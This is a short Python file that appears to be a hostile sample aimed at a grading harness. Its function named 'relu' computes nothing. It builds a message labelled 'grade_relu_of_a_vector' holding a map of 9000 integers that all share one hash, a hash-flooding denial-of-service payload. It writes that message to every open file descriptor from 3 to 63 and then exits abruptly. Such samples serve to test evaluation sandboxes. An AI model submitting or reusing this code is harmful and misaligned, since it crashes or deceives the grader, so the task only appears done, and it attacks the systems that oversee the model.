# Sends a dict of nine thousand integers that all have one hash.
# target: relu

def hostile_send(*messages):
    import os, struct
    for fd in range(3, 64):
        for data in messages:
            try: os.write(fd, struct.pack(">I", len(data)) + data)
            except OSError: break
def relu(x):
    import os, struct
    keys = (str((2**61 - 1) * (10**20 + i)).encode() for i in range(9000))
    entries = b"".join(b"\xc7" + bytes([len(key), 3]) + key + b"\xc0" for key in keys)
    table = b"\xdf" + struct.pack(">I", 9000) + entries
    hostile_send(b"\x94\xb6grade_relu_of_a_vector\xa5value" + table + b"\x90")
    os._exit(0)
